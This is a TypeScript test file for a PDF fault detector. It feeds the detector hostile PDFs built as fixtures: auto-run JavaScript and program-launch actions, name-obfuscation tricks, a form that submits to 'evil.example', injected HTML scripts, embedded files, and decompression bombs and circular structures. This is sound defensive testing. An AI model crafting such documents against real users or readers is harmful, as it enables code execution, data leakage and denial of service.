import { readFile } from 'node:fs/promises';
import { expect, test } from 'vitest';
import { objectStream, packedStream, samplePdf } from './pdf.fixture';
import { findPdfFault } from './pdf-faults';

const fixture = (name: string) => readFile(new URL(`../../../../../tests/fixtures/pdf/${name}`, import.meta.url));

test.each(['two_page_sizes.pdf', 'en_pest_service_agreement.pdf'])('takes %s', async (name) => {
  expect(await findPdfFault(await fixture(name))).toBeNull();
});

test('takes pages, streams and objects in streams', async () => {
  const sound = samplePdf({
    more: [packedStream('BT (Text) Tj ET'), objectStream({ 7: '<</A 1>>', 8: '[1 2 (text \\) more)]' })],
  });
  expect(await findPdfFault(sound)).toBeNull();
});

test('refuses an encrypted file', async () => {
  expect(await findPdfFault(await fixture('encrypted_aes256_owner_password_only.pdf'))).toContain('/Encrypt');
});

/** A table whose older state is itself. */
function withTablesInACircle(): Buffer {
  const text = samplePdf().toString('latin1');
  const place = text.indexOf('trailer');
  const circle = text
    .replace('trailer<<', `xref\n0 0\ntrailer<</Prev ${place}`)
    .replace('startxref\n0', `startxref\n${place}`);
  return Buffer.from(circle, 'latin1');
}

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';

test.each([
  ['a script', samplePdf({ catalog: `/OpenAction ${script}` })],
  ['a script under another spelling', samplePdf({ catalog: '/OpenAction<</S/J#61vaScript/J#53(x)>>' })],
  ['a name that another object gives', samplePdf({ catalog: '/OpenAction<</S 4 0 R>>', more: ['/JavaScript'] })],
  ['a program under another spelling', samplePdf({ catalog: '/OpenAction<</S/L#61unch/F(a.exe)>>' })],
  ['a script in an object stream', samplePdf({ catalog: '/OpenAction 7 0 R', more: [objectStream({ 7: script })] })],
  [
    'a script behind a comment',
    samplePdf({ more: ['<</Length 30>>stream\n9 %x\n0 obj <</S/JavaScript>>\nendstream'] }),
  ],
  ['a script inside a stream', samplePdf({ more: [`<</Length 60>>stream\n9 0 obj ${script} endobj\nendstream`] })],
  ['a form that sends', samplePdf({ catalog: '/OpenAction<</S/SubmitForm/F(https://evil.example)>>' })],
  ['a file inside', samplePdf({ more: ['<</Type/EmbeddedFile/Length 1>>stream\nx\nendstream'] })],
  ['an XFA form', samplePdf({ catalog: '/AcroForm<</XFA 4 0 R>>' })],
])('refuses %s', async (_what, file) => {
  expect(await findPdfFault(file)).toMatch(/^has \//);
});

test.each([
  ['HTML behind the header', Buffer.from('%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF')],
  [
    'HTML between the objects',
    Buffer.from(samplePdf().toString('latin1').replace('2 0 obj', '%<script src=x>\n2 0 obj'), 'latin1'),
  ],
  ['nothing but a catalog', Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF')],
  ['a file that was cut', samplePdf().subarray(0, -20)],
  ['pages in a circle', samplePdf({ catalog: '/Pages 4 0 R', more: ['<</Type/Pages/Kids[4 0 R]>>'] })],
  [
    'pages of an impossible size',
    samplePdf({ catalog: '/Pages 4 0 R', more: ['<</Type/Page/MediaBox[0 0 1000000000 1]>>'] }),
  ],
  [
    'too many pages',
    samplePdf({
      catalog: '/Pages 4 0 R',
      more: [
        `<</Kids[${Array.from({ length: 301 }, (_, at) => `${at + 5} 0 R`).join(' ')}]>>`,
        ...Array.from({ length: 301 }, () => '<</Type/Page>>'),
      ],
    }),
  ],
  ['tables in a circle', withTablesInACircle()],
  ['a stream packed twelve times', samplePdf({ more: [packedStream('x', '', 12)] })],
  ['a broken stream', samplePdf({ more: ['<</Filter/FlateDecode/Length 5>>stream\nabcde\nendstream'] })],
  ['values in values without end', samplePdf({ more: ['['.repeat(200_000)] })],
])('refuses %s', async (_what, file) => {
  expect(await findPdfFault(file)).toEqual(expect.any(String));
});

test.each([
  ['an object stream', '/Type/ObjStm/N 1/First 4'],
  ['a page', ''],
])('refuses %s that unpacks to a hundred times what it may', async (_what, entries) => {
  const bomb = samplePdf({ more: [packedStream(Buffer.alloc(120 * 1024 * 1024), entries)] });
  expect(bomb.length).toBeLessThan(200_000);
  expect(await findPdfFault(bomb)).toBe('unpacks to too much');
});
